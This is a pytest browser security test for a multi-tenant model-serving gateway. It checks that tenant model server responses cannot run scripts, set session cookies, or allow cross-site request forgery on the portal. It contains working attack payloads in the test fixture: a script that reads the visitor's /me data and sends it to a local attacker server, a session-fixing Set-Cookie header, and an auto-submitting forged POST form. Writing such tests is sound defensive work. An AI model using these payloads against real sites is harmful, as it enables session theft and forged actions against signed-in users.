"""The gateway in a real browser (headless Chromium). Its answers come from tenants' model
servers, which a tenant's editors control (a pickled model runs code when loaded), yet they are
served on the portal's own origin, to people signed in to the portal. So a model server's answer
must not run there as a page or set the portal's cookies, and another page must not make a
signed-in person's browser call the gateway with their session."""

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.test import Client

from endpoints.models import Endpoint, ServingTemplate
from tenants.models import Tenant, TenantBinding
from workers.backends.local import LocalOrchestrator

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("fresh_gateway")]

UNLOAD = "/v2/repository/models/iris/unload"  # MLServer's: the model stops answering

# What the hostile model server answers with: a page whose script reads the visitor's portal data
# (same origin, their session) and sends it to the server; and a page of "another site" (another
# port of the same host: same site, other origin) that posts to the gateway as the visitor.
STEALING_PAGE = """<!doctype html><h1>Model card</h1>
<script>
fetch("/me").then((r) => r.text()).then((me) => {
  new Image().src = "http://127.0.0.1:%(port)s/stolen?" + encodeURIComponent(me);
});
</script>"""
FORGING_PAGE = """<!doctype html>
<form method="post" action="%(gateway)s/gateway/demo/iris%(unload)s" enctype="text/plain">
  <input name="{}" value="">
</form>
<script>document.forms[0].submit();</script>"""


class HostileModelServer(BaseHTTPRequestHandler):
    seen = []  # (method, path) of every request, in order
    gateway = ""

    def _answer(self, body, content_type, extra=()):
        body = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in extra:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.seen.append(("GET", self.path))
        port = self.server.server_port
        if self.path == "/card":
            self._answer(STEALING_PAGE % {"port": port}, "text/html")
        elif self.path == "/cookie":
            cookie = ("Set-Cookie", "sessionid=the-attackers-session; Path=/")
            self._answer("{}", "application/json", [cookie])
        elif self.path == "/attack":
            page = FORGING_PAGE % {"gateway": self.gateway, "unload": UNLOAD}
            self._answer(page, "text/html")
        else:
            self._answer("", "image/gif")

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.seen.append(("POST", self.path))
        self._answer(json.dumps({}), "application/json")

    def log_message(self, *args):
        pass


@pytest.fixture
def hostile(monkeypatch, gateway_url):
    """demo/iris served by the hostile model server."""
    HostileModelServer.seen = []
    HostileModelServer.gateway = gateway_url
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileModelServer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}"
    monkeypatch.setattr(LocalOrchestrator, "endpoint_backends", lambda self, target: [url])
    yield url
    server.shutdown()


@pytest.fixture
def member(page, gateway_url, make_user):
    """A member of tenant demo signed in to the portal in the browser."""
    demo = Tenant.objects.create(name="demo", scope="team")
    TenantBinding.objects.create(tenant=demo, group="team", role="viewer")
    serving, _ = ServingTemplate.objects.get_or_create(name="mlserver")
    Endpoint.objects.create(
        tenant=demo, name="iris", model_name="iris", serving=serving, subject_name="client"
    )
    client = Client()
    client.force_login(make_user("bob", groups=["team"]))
    session = client.cookies["sessionid"].value
    page.context.add_cookies([{"name": "sessionid", "value": session, "url": gateway_url}])
    return session


def settle(seconds=1.5):
    """Long enough for a script on the page to have done its requests."""
    time.sleep(seconds)


def test_a_model_servers_page_cannot_read_the_portal_as_the_visitor(
    page, gateway_url, hostile, member
):
    page.goto(f"{gateway_url}/gateway/demo/iris/card")
    assert page.locator("h1").inner_text() == "Model card"  # shown, but inert
    settle()
    assert not [path for _, path in HostileModelServer.seen if path.startswith("/stolen")]


def test_a_model_server_cannot_set_the_portals_cookies(page, gateway_url, hostile, member):
    page.goto(f"{gateway_url}/gateway/demo/iris/cookie")
    cookies = {cookie["name"]: cookie["value"] for cookie in page.context.cookies(gateway_url)}
    assert cookies["sessionid"] == member


def test_another_page_cannot_post_to_the_gateway_with_the_visitors_session(
    page, gateway_url, hostile, member
):
    page.goto(f"{hostile}/attack")
    page.wait_for_url(f"{gateway_url}/gateway/**")
    settle(0.5)
    assert ("POST", UNLOAD) not in HostileModelServer.seen
    assert "csrf_failed" in page.content()


def test_the_portals_own_pages_post_to_the_gateway_with_the_csrf_token(
    page, gateway_url, hostile, member
):
    page.goto(f"{gateway_url}/ui/")
    status = page.evaluate(
        """async (url) => {
          const token = JSON.parse(document.body.getAttribute("hx-headers"))["X-CSRFToken"];
          const response = await fetch(url, {method: "POST", headers: {"X-CSRFToken": token}});
          return response.status;
        }""",
        f"{gateway_url}/gateway/demo/iris{UNLOAD}",
    )
    assert status == 200
    assert ("POST", UNLOAD) in HostileModelServer.seen
